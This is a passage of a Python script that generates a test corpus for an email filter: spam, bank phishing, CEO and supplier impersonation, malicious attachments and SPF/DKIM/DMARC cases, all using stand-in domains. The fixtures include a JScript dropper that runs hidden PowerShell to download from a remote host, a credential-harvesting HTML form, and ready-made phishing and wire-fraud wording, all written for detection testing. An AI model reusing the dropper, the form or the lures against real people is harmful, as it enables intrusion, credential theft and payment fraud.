    m = msg(
        "Guaranteed 30% monthly returns with bitcoin",
        "Crypto Yield <invest@crypto-yield.example>",
        date="Fri, 27 Nov 2026 12:00:00 +0000",
        message_id="<yield.5512@crypto-yield.example>",
    )
    m.set_content(
        "Turn 250 USD into 10,000 USD. Our bitcoin trading robot guarantees 30% a month.\n"
        "Open your account today: https://crypto-yield.example/start\n"
    )
    corpus.add(
        "spam-crypto-investment",
        "Investment scam mentioning bitcoin; SPF neutral (?all)",
        m,
        ("192.0.2.152", "crypto-yield.example"),
        "invest@crypto-yield.example",
    )

    m = msg(
        "Cheap meds, no prescription",
        "Online Pharmacy <sales@cheap-meds.example>",
        date="Thu, 26 Nov 2026 04:04:04 +0000",
        message_id="<rx.90210@cheap-meds.example>",
    )
    alternative(
        m,
        "Viagra and more at 80% off. Order: https://cheap-meds.example/order\n",
        '<html><body><p>Viagra and more at 80% off.</p><p><a href="https://cheap-meds.example/'
        'order">Order now</a></p></body></html>\n',
    )
    corpus.add(
        "spam-pharma-dbl-link",
        "Pharmacy spam linking to a domain listed on the Spamhaus DBL",
        boundaries(m, "pharma"),
        ("192.0.2.153", "cheap-meds.example"),
        "sales@cheap-meds.example",
    )

    m = msg(
        "Test spam mail (GTUBE)",
        "QA Team <qa@acme-store.example>",
        date="Tue, 01 Dec 2026 12:00:00 +0000",
        message_id="<gtube.1@acme-store.example>",
    )
    m.set_content(
        "This is the GTUBE, the\n\tGeneric\n\tTest for\n\tUnsolicited\n\tBulk\n\tEmail\n\n"
        "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\n"
    )
    corpus.add(
        "spam-gtube",
        "SpamAssassin's GTUBE test string, from an otherwise authenticated sender",
        m,
        ACME,
        "qa@acme-store.example",
        sign=("acme-store.example", "s1"),
    )

    m = msg(
        "Unusual sign-in activity on your account",
        '"Example Bank Security" <security@bank-secure-login.example>',
        date="Tue, 01 Dec 2026 02:13:44 +0000",
        message_id="<alert.3391@bank-secure-login.example>",
    )
    alternative(
        m,
        "We detected an unusual sign-in to your Example Bank account.\n"
        "Verify your identity within 24 hours or your account will be suspended:\n"
        "https://bank-secure-login.example/verify\n",
        '<html><body><img src="https://bank-secure-login.example/logo.png" alt="Example Bank">'
        "<p>We detected an unusual sign-in to your account.</p>"
        '<p><a href="https://bank-secure-login.example/verify?id=jordan.lee">'
        "https://bank.example/security/verify</a></p>"
        "<p>Your account will be suspended if you do not verify within 24 hours.</p>"
        "</body></html>\n",
    )
    corpus.add(
        "phish-lookalike-domain",
        "Bank phishing from a look-alike domain that passes its own SPF; link text shows "
        "the real bank, the href goes elsewhere",
        boundaries(m, "lookalike"),
        ATTACKER,
        "security@bank-secure-login.example",
    )

    m = msg(
        "Action required: payroll update",
        '"security@bank.example" <helpdesk.alerts@freemail.example>',
        date="Tue, 01 Dec 2026 07:55:00 +0000",
        message_id="<CAO9k2mF+phish01@mail.freemail.example>",
    )
    m.set_content(
        "Dear employee,\n\nUpdate your payroll direct deposit before Friday:\n"
        "https://secure-docs.example/payroll-update\n\nIT Helpdesk\n"
    )
    corpus.add(
        "phish-display-name-spoof",
        "Display name holds another address (security@bank.example); the real sender is a "
        "freemail account that authenticates fine",
        m,
        FREEMAIL,
        "helpdesk.alerts@freemail.example",
        sign=("freemail.example", "fm2026"),
    )

    m = msg(
        "Your account has been locked",
        "Example Bank <security@bank.example>",
        date="Tue, 01 Dec 2026 03:00:00 +0000",
        message_id="<lock.5521@bank.example>",
    )
    m.set_content(
        "Your online banking was locked after three failed sign-ins.\n"
        "Unlock it: https://bank-secure-login.example/unlock\n"
    )
    corpus.add(
        "phish-dmarc-reject-spoof",
        "Header From bank.example (DMARC p=reject) sent by an attacker with their own "
        "envelope domain: SPF passes unaligned, no DKIM, DMARC fails",
        m,
        ATTACKER,
        "bounce@bank-secure-login.example",
    )

    m = msg(
        "Updated remittance details",
        "Supplier Accounts <accounts@supplier.example>",
        date="Mon, 30 Nov 2026 15:20:00 +0000",
        message_id="<remit.8812@supplier.example>",
    )
    m.set_content(
        "Hello,\n\nplease use our new account for all future payments; details attached "
        "on request.\n\nAccounts\n"
    )
    corpus.add(
        "phish-dmarc-quarantine-spoof",
        "Header From supplier.example (DMARC p=quarantine) sent from a stranger's server "
        "with a look-alike envelope domain",
        m,
        ("192.0.2.154", "supp1ier.example"),
        "accounts@supp1ier.example",
    )

    m = msg(
        "Last chance: claim your reward",
        "Newsletter Weekly <weekly@newsletter.example>",
        date="Mon, 30 Nov 2026 18:00:00 +0000",
        message_id="<reward.1@promo-deals.example>",
    )
    m.set_content("You have a reward waiting. Claim it: https://promo-deals.example/reward\n")
    corpus.add(
        "phish-dmarc-none-spoof",
        "Header From newsletter.example (DMARC p=none) sent by a spammer: DMARC fails, "
        "the policy asks for nothing",
        m,
        ATTACKER,
        "bounce@promo-deals.example",
    )

    m = msg(
        "Quick favour",
        "Alex Morgan CEO <alex.morgan.ceo@freemail.example>",
        date="Tue, 01 Dec 2026 08:47:00 +0000",
        message_id="<CAO9k2mF+bec01@mail.freemail.example>",
        extra={"Reply-To": "alex.morgan.office@freemail.example"},
    )
    m.set_content(
        "Jordan,\n\nare you at your desk? I need you to buy gift cards for a client today, "
        "urgent payment, keep it confidential. 5 x 200 USD. Send me the codes by email.\n\n"
        "Alex\nSent from my phone\n"
    )
    corpus.add(
        "bec-ceo-gift-cards",
        "BEC: CEO impersonation from freemail asking for gift cards (no link, no attachment)",
        m,
        FREEMAIL,
        "alex.morgan.ceo@freemail.example",
        sign=("freemail.example", "fm2026"),
    )

    m = msg(
        "RE: Invoice overdue - bank details changed",
        "Supplier Accounts <accounts@supp1ier.example>",
        date="Tue, 01 Dec 2026 10:05:00 +0000",
        message_id="<bec.2207@supp1ier.example>",
        extra={"In-Reply-To": "<remit.8811@supplier.example>"},
    )
    m.set_content(
        "Hello Jordan,\n\ninvoice 4471 is overdue. Our bank details changed last month, so "
        "please make the wire transfer of 18,400 EUR to the new account today:\n"
        "IBAN XX00 0000 0000 0000 0000 00\n\nRegards,\nAccounts\n"
    )
    corpus.add(
        "bec-bank-details-changed",
        "BEC: supplier look-alike (supp1ier.example) asks for a wire transfer to new bank "
        "details; the look-alike authenticates",
        m,
        ("192.0.2.154", "supp1ier.example"),
        "accounts@supp1ier.example",
    )

    def attachment_mail(
        name: str,
        about: str,
        subject: str,
        text: str,
        files: list[tuple[bytes, str, str, str]],
        *,
        sender: str = "Accounts Payable <invoices@secure-docs.example>",
        server: tuple[str, str] = ("192.0.2.155", "secure-docs.example"),
        mail_from: str = "invoices@secure-docs.example",
        day: int = 30,
    ) -> None:
        m = msg(
            subject,
            sender,
            date=f"Mon, {day:02d} Nov 2026 09:30:00 +0000",
            message_id=f"<{name}.{day}@secure-docs.example>",
        )
        m.set_content(text)
        for data, maintype, subtype, filename in files:
            m.add_attachment(data, maintype, subtype, filename=filename)
        corpus.add(name, about, boundaries(m, name), server, mail_from)

    attachment_mail(
        "mal-docm-macro",
        "Invoice as a macro-enabled Word document (.docm with vbaProject.bin)",
        "Invoice 4471 attached",
        "Please see the attached invoice. Enable content to view it.\n",
        [
            (
                docm(),
                "application",
                "vnd.ms-word.document.macroEnabled.12",
                "Invoice_4471.docm",
            )
        ],
    )
    attachment_mail(
        "mal-double-extension-exe",
        "Executable disguised with a double extension (Invoice.pdf.exe)",
        "Your invoice",
        "Your invoice is attached.\n",
        [(exe(), "application", "octet-stream", "Invoice_4471.pdf.exe")],
    )
    attachment_mail(
        "mal-exe-renamed-pdf",
        "A PE executable named scan.pdf and declared application/pdf",
        "Scanned document",
        "Scanned on the office printer.\n",
        [(exe(), "application", "pdf", "scan_0012.pdf")],
    )
    attachment_mail(
        "mal-zip-exe",
        "Zip archive holding an .exe",
        "Shipment documents",
        "The shipment documents are in the archive.\n",
        [(make_zip({"Shipment_docs.exe": exe()}), "application", "zip", "Shipment_docs.zip")],
    )
    attachment_mail(
        "mal-zip-js",
        "Zip archive holding a JScript dropper (.js)",
        "Payment confirmation",
        "Payment confirmation attached.\n",
        [
            (
                make_zip(
                    {
                        "Payment_confirmation.js": b'var s=new ActiveXObject("WScript.Shell");'
                        b's.Run("powershell -w hidden -c iwr https://secure-docs.example/p");'
                    }
                ),
                "application",
                "zip",
                "Payment_confirmation.zip",
            )
        ],
    )
    attachment_mail(
        "mal-encrypted-zip",
        "Password-protected zip with the password in the body (unscannable)",
        "Confidential invoice",
        "The invoice is in the attached archive. Password: 4471\n",
        [
            (
                make_zip({"Invoice_4471.pdf": pdf("invoice")}, encrypted=True),
                "application",
                "zip",
                "Invoice_4471.zip",
            )
        ],
    )
    attachment_mail(
        "mal-lnk-in-zip",
        "Windows shortcut (.lnk) inside a zip",
        "Documents for review",
        "Documents for your review are attached.\n",
        [(make_zip({"Review.pdf.lnk": lnk()}), "application", "zip", "Review.zip")],
    )
    attachment_mail(
        "mal-html-attachment-phish",
        "HTML attachment with a credential form posting to another domain",
        "You have received a secure message",
        "Open the attached secure message to read it.\n",
        [
            (
                b"<!DOCTYPE html><html><head><title>Secure Message</title></head><body>"
                b"<h2>Sign in to view your secure message</h2>"
                b'<form action="https://secure-docs.example/collect" method="post">'
                b'<input name="email" value="jordan.lee@corp.example">'
                b'<input name="password" type="password"><button>View message</button>'
                b"</form><script>document.forms[0].password.focus()</script></body></html>",
                "text",
                "html",
                "SecureMessage.html",
            )
        ],
    )

    m = msg(
        "Your parcel could not be delivered",
        "Parcel Service <notice@promo-deals.example>",
        date="Sun, 29 Nov 2026 06:06:06 +0000",
        message_id="<parcel.6161@promo-deals.example>",
    )
    alternative(
        m,
        "Your parcel could not be delivered. Reschedule: https://promo-deals.example/parcel\n",
        "<html><head><script>window.location='https://promo-deals.example/parcel'</script>"
        '</head><body onload="track()"><p>Your parcel could not be delivered.</p>'
        '<p><a href="javascript:reschedule()">Reschedule delivery</a></p>'
        '<iframe src="https://promo-deals.example/frame" width="1" height="1"></iframe>'
        "</body></html>\n",
    )
    corpus.add(
        "spam-active-script",
        "Parcel scam with script, an onload handler, a javascript: link and an iframe",
        boundaries(m, "script"),
        ATTACKER,
        "notice@promo-deals.example",
    )

    m = msg(
        "Quarterly business review",
        "Business Updates <updates@promo-deals.example>",
        date="Sat, 28 Nov 2026 10:10:10 +0000",
        message_id="<qbr.1010@promo-deals.example>",
    )
    alternative(
        m,
        "Quarterly business review: see the figures online.\n",
        "<html><body><p>Quarterly business review: see the figures online.</p>"
        '<div style="display:none">meeting agenda minutes report budget forecast invoice '
        "schedule project deadline colleague</div>"
        '<p style="color:#ffffff;font-size:1px">casino lottery viagra bitcoin winner</p>'
        "</body></html>\n",
    )
    corpus.add(
        "spam-hidden-text",
        "Hash-buster: hidden ham words and white-on-white spam words",
        boundaries(m, "hidden"),
        ATTACKER,
        "updates@promo-deals.example",
    )


def authentication(corpus: Corpus) -> None:
    def order_mail(message_id: str, subject: str) -> EmailMessage:
        m = msg(
            subject,
            "Acme Store <orders@acme-store.example>",
            date="Wed, 02 Dec 2026 09:00:00 +0000",
            message_id=message_id,
        )
        m.set_content(
            "Hi Jordan,\n\nyour refund of 19.99 EUR for order #A-20931 has been issued to your "
            "card.\n\nAcme Store\n"
        )
        return m

    corpus.add(
        "auth-spf-fail",
        "acme-store.example's mail from a server outside its SPF record (-all): SPF fail",
        order_mail("<refund.1@acme-store.example>", "Your refund has been issued"),
        STRANGER,
        "orders@acme-store.example",
    )
    m = msg(
        "Your support ticket #5521 was updated",
        "Support <support@legacy-crm.example>",
        date="Wed, 02 Dec 2026 09:10:00 +0000",
        message_id="<ticket-5521.upd@legacy-crm.example>",
    )
    m.set_content("A support agent replied to ticket #5521. Sign in to read the answer.\n")
    corpus.add(
        "auth-spf-softfail",
        "legacy-crm.example (SPF ~all) sent from a host it does not list: softfail, no DMARC",
        m,
        STRANGER,
        "support@legacy-crm.example",
    )
    m = msg(
        "Your support ticket #5522 was updated",
        "Support <support@legacy-crm.example>",
        date="Wed, 02 Dec 2026 09:12:00 +0000",
        message_id="<ticket-5522.upd@legacy-crm.example>",
    )
    m.set_content("A support agent replied to ticket #5522. Sign in to read the answer.\n")
    corpus.add(
        "auth-spf-pass-no-dmarc",
        "legacy-crm.example from its own A record: SPF pass, no DKIM, no DMARC record",
        m,
        CRM,
        "support@legacy-crm.example",
    )
    m = msg(
        "Meeting notes",
        "Taylor Kim <taylor@twospf.example>",
        date="Wed, 02 Dec 2026 09:20:00 +0000",
        message_id="<notes.1@twospf.example>",
    )
    m.set_content("Notes from today's meeting are in the shared folder.\n")
    corpus.add(
        "auth-spf-permerror",
        "A domain publishing two SPF records: permerror (RFC 7208 §4.5)",
        m,
        TWOSPF,
        "taylor@twospf.example",
    )
    m = msg(
        "Welcome to the community",
        "Community <hello@nodmarc.example>",
        date="Wed, 02 Dec 2026 09:30:00 +0000",
        message_id="<welcome.1@nodmarc.example>",
    )
    m.set_content("Welcome! Your community account is ready.\n")
    corpus.add(
        "auth-dkim-valid-no-spf",
        "DKIM-signed by its own domain, which publishes no SPF and no DMARC",
        m,
        NODMARC,
        "hello@nodmarc.example",
        sign=("nodmarc.example", "default"),
    )
    corpus.add(
        "auth-dkim-body-altered",
        "acme-store.example signed, then the body changed (refund amount) and relayed "
        "through a list with its own envelope sender: DKIM fails, SPF passes unaligned, "
        "DMARC p=reject fails",
        order_mail("<refund.2@acme-store.example>", "Your refund has been issued"),
        FORWARDER,
        "announce-bounces@lists.forwarder.example",
        sign=("acme-store.example", "s1"),
        alter=replace(b"19.99 EUR", b"1999.00 EUR"),
    )
    corpus.add(
        "auth-dkim-subject-altered",
        "acme-store.example signed, then a list prefixed the Subject: DKIM fails, "
        "SPF passes unaligned, DMARC p=reject fails",
        order_mail("<refund.3@acme-store.example>", "Your refund has been issued"),
        FORWARDER,
        "announce-bounces@lists.forwarder.example",
        sign=("acme-store.example", "s1"),
        alter=replace(b"Subject: Your refund", b"Subject: [announce] Your refund"),
    )
    corpus.add(
        "auth-dkim-altered-spf-pass",
        "Signed and altered after signing, but sent from acme-store.example's own server: "
        "DKIM fails, DMARC passes by aligned SPF",
        order_mail("<refund.4@acme-store.example>", "Your refund has been issued"),
        ACME,
        "orders@acme-store.example",
        sign=("acme-store.example", "s1"),
        alter=replace(b"19.99 EUR", b"9.99 EUR"),
    )
    corpus.add(
        "auth-dkim-forwarded-intact",
        "Forwarded unchanged by a list with its own envelope sender: SPF passes unaligned, "
        "DKIM still valid, so DMARC passes (RFC 7489 §4.2)",
        order_mail("<refund.5@acme-store.example>", "Your refund has been issued"),
        FORWARDER,
        "announce-bounces@lists.forwarder.example",
        sign=("acme-store.example", "s1"),
    )
    m = msg(
        "Delivery update",
        "Partner Logistics <logistics@partner.example>",
        date="Wed, 02 Dec 2026 10:00:00 +0000",
        message_id="<delivery.1@partner.example>",
    )
    m.set_content("Your delivery is scheduled for Friday between 9:00 and 12:00.\n")
    corpus.add(
        "auth-dmarc-quarantine-fail",
        "partner.example (DMARC p=quarantine) from a stranger's server, unsigned: "
        "SPF fail and DMARC fail",
        m,
        STRANGER,
        "logistics@partner.example",
    )


def main(target: Path = HERE) -> None:
    """Write ``target/messages/*.eml`` and ``target/envelopes.yaml`` (by default: the corpus)."""
    messages = target / "messages"
    messages.mkdir(exist_ok=True)
    for old in messages.glob("*.eml"):
        old.unlink()
    corpus = Corpus(messages)
    transactional(corpus)
    newsletters(corpus)
    hostile(corpus)
    authentication(corpus)
    header = (
        "# How each corpus message arrives (written by tests/corpus/make_messages.py; do not "
        "edit by hand).\n# client_ip/helo: the sending server (see dns/corpus.zone); "
        "mail_from/rcpt: the SMTP envelope.\n"
    )
    (target / "envelopes.yaml").write_text(
        header + yaml.safe_dump(dict(sorted(corpus.written.items())), sort_keys=False, width=100),
        encoding="utf-8",
    )
    print(f"wrote {len(corpus.written)} messages to {messages}")


if __name__ == "__main__":
    main()
